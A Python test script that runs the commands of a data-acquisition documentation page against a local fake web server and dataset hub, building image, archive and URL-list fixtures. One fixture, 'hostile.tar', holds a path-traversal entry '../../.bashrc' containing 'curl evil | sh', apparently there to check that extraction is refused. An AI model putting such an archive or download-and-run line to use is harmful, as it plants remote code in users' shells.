"""Runs the commands of docs/acquisition.md, in their order, in one shell, beside a server that stands for the web and the hub.

PYTHONPATH=tests python tests/cli/acquisition_page.py        # writes into the page what they print now
"""

from __future__ import annotations

import csv
import hashlib
import io
import re
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import zstandard
from PIL import Image

from acquire.archives.builders import tar
from acquire.hub.hub_site import HubSite
from acquire.servers import Asked, Script, page_404, ranged, serve
from bezoar.demo.signs import render
from cli import custody_page

PAGE = Path(__file__).parents[2] / "docs" / "acquisition.md"
_ROWS = 12
_DOMAINS = {
    "example.com": 12_000, "example.org": 5_000, "example.net": 2_000, "img.example.co.uk": 900,
    "example.it": 60, "example.fr": 25, "example.de": 12, "example.nl": 3,
}  # fmt: skip
_CHANGING = (
    (re.compile(r"\b[0-9a-f]{16}\b"), "ID"),
    (re.compile(r"[\d.]+ k?B? ?(bytes )?in [\d.]+ s(, [\d,]+ rows a second)?"), "SPEED"),
    (re.compile(r"[\d.,]+ (kB|bytes)"), "SIZE"),
    (re.compile(r"(?m)^  0000[0-3]0  .*$"), "DUMP"),
    (re.compile(r":\d{4,5}\b"), ":PORT"),
    (re.compile(r"\(\d+ bits\)"), "(N bits)"),
    (re.compile(r"Public Suffix List [\w-]+"), "Public Suffix List DAY"),
    (re.compile(r'"size": \d+'), "SIZE"),
)


def run_page(text: str, folder: Path) -> str:
    """The page with what its commands print now."""
    _web_list(folder / "web.csv")
    with _site(folder) as port, custody_page.Shell(folder, port) as shell:
        return custody_page.BLOCK.sub(lambda match: shell.block(match[1]), text)


def masked(text: str) -> str:
    """A page without what is another at every run."""
    for pattern, name in _CHANGING:
        text = pattern.sub(name, text)
    return custody_page.masked(text)


@contextmanager
def _site(folder: Path) -> Iterator[int]:
    """`site/` is served, `bought/` is what three pages will serve, `list.csv` names the pages."""
    for name in ("site", "bought"):
        (folder / name).mkdir()
    for number in range(_ROWS):
        _sign(number).save(folder / "site" / f"{number}.jpg", quality=95)
    _sign(3).save(folder / "bought" / "3.jpg", quality=35)
    _sign(99).save(folder / "bought" / "7.jpg", quality=95)
    (folder / "bought" / "9.jpg").write_text("<!DOCTYPE html><title>this domain is for sale</title>\n")

    _archives(folder)
    public, private = _hub(folder), _faces()

    def answer(asked: Asked) -> bytes | Script:
        if asked.path.startswith((private.api, private.pages)):
            return private(asked)
        if asked.path.startswith((public.api, public.pages)):
            public.refs["main"] = (folder / "hub" / "main").read_text().strip()
            return public(asked)
        path = folder / "site" / asked.path.strip("/")
        return (
            ranged(path.read_bytes(), content_type="image/jpeg")(asked) if path.is_file() else page_404(asked)
        )

    with serve(answer) as server:
        rows = io.StringIO()
        table = csv.writer(rows, lineterminator="\n")
        table.writerow(["url", "caption"])
        table.writerows([f"{server.url}/{number}.jpg", f"traffic sign {number}"] for number in range(_ROWS))
        (folder / "list.csv").write_text(rows.getvalue())
        yield server.port


def _hub(folder: Path) -> HubSite:
    """The dataset ann/signs; its tree is true, what it sends lies in `hub/signs/`, and `hub/main` is where main is."""
    labels = "".join(f"{number}.png,{number % 3}\n" for number in range(6))
    files = {"README.md": b"# Signs\n", "labels.csv": f"file,label\n{labels}".encode()}
    pictures = {f"{number}.png": _png(number) for number in range(6)}
    sends = folder / "hub" / "signs"
    sends.mkdir(parents=True)
    for name, content in {**files, **pictures}.items():
        (sends / name).write_bytes(content)
    site = HubSite(files=files, lfs=pictures)
    (folder / "hub" / "main").write_text(site.refs["main"] + "\n")
    site.sent = {
        name: lambda asked, path=sends / name: ranged(path.read_bytes())(asked)
        for name in {**files, **pictures}
    }
    return site


def _faces() -> HubSite:
    """The private dataset ann/faces."""
    return HubSite(
        files={"README.md": b"# Faces\n"},
        api="/api/datasets/ann/faces",
        pages="/datasets/ann/faces",
        token="hf_example",  # noqa: S106 - of this server
    )


def _archives(folder: Path) -> None:
    """`site/shapes.tar.zst` with its `SHA256SUMS`, and `site/hostile.tar`."""
    plain = tar(folder / "shapes.tar", *((f"shapes/{number}.png", _png(number)) for number in range(40, 48)))
    packed = zstandard.compress(plain.read_bytes())
    plain.unlink()
    (folder / "site" / "shapes.tar.zst").write_bytes(packed)
    (folder / "SHA256SUMS").write_text(f"{hashlib.sha256(packed).hexdigest()}  shapes.tar.zst\n")
    tar(folder / "site" / "hostile.tar", ("shapes/0.png", _png(0)), ("../../.bashrc", b"curl evil | sh\n"))


def _web_list(path: Path) -> None:
    """20,000 rows on eight domains, four of them odd."""
    urls = [f"https://{host}/{number}.jpg" for host, rows in _DOMAINS.items() for number in range(rows)]
    hashes = [hashlib.sha256(url.encode()).hexdigest() for url in urls]
    urls[7] = urls[3]
    urls[12_500] = "https://example.com@example.org/500.jpg"
    urls[17_000:19_000] = [url.replace("https", "http") for url in urls[17_000:19_000]]
    urls[19_500] = "https://10.0.0.7/3.jpg"
    hashes[400] = hashes[400][:-1]
    with path.open("w", newline="") as file:
        csv.writer(file, lineterminator="\n").writerows([("url", "sha256"), *zip(urls, hashes, strict=True)])


def _png(seed: int) -> bytes:
    buffer = io.BytesIO()
    _sign(seed).save(buffer, "PNG")
    return buffer.getvalue()


def _sign(seed: int) -> Image.Image:
    rng = np.random.default_rng(seed)
    return Image.fromarray(render(seed % 8, rng, 64))


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as where:
        PAGE.write_text(run_page(PAGE.read_text(encoding="utf-8"), Path(where)), encoding="utf-8")
